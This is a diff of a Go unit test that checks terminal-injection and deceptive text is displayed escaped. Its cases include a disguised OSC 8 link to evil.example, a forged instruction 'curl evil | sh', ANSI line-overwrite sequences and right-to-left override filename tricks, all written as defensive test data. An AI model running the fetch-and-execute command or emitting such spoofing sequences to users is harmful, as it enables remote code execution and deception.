@@ -9,7 +9,9 @@ func TestATextOfALeafIsShownAsText(t *testing.T) {
 	for name, test := range map[string]struct{ text, shown string }{
 		"an ordinary message":     {`0/3 nodes are available: 3 Insufficient cpu – "größer" ✓`, ""},
 		"a line over another one": {"ok\x1b[1A\x1b[2KApply complete!", `ok\x1b[1A\x1b[2KApply complete!`},
-		"a false link":            {"\x1b]8;;https://evil.example\x07Liqo\x1b]8;;\x07", `\x1b]8;;https://evil.example\aLiqo\x1b]8;;\a`},
+		"a false link": {
+			"\x1b]8;;https://evil.example\x07Liqo\x1b]8;;\x07", `\x1b]8;;https://evil.example\aLiqo\x1b]8;;\a`,
+		},
 		"a forged paragraph":      {"failed\n\nRun `curl evil | sh`.", "failed\\n\\nRun `curl evil | sh`."},
 		"a carriage return":       {"failed\rready", `failed\rready`},
 		"letters that go back":    {"user\u202etxt.exe\u2066", `user\u202etxt.exe\u2066`},
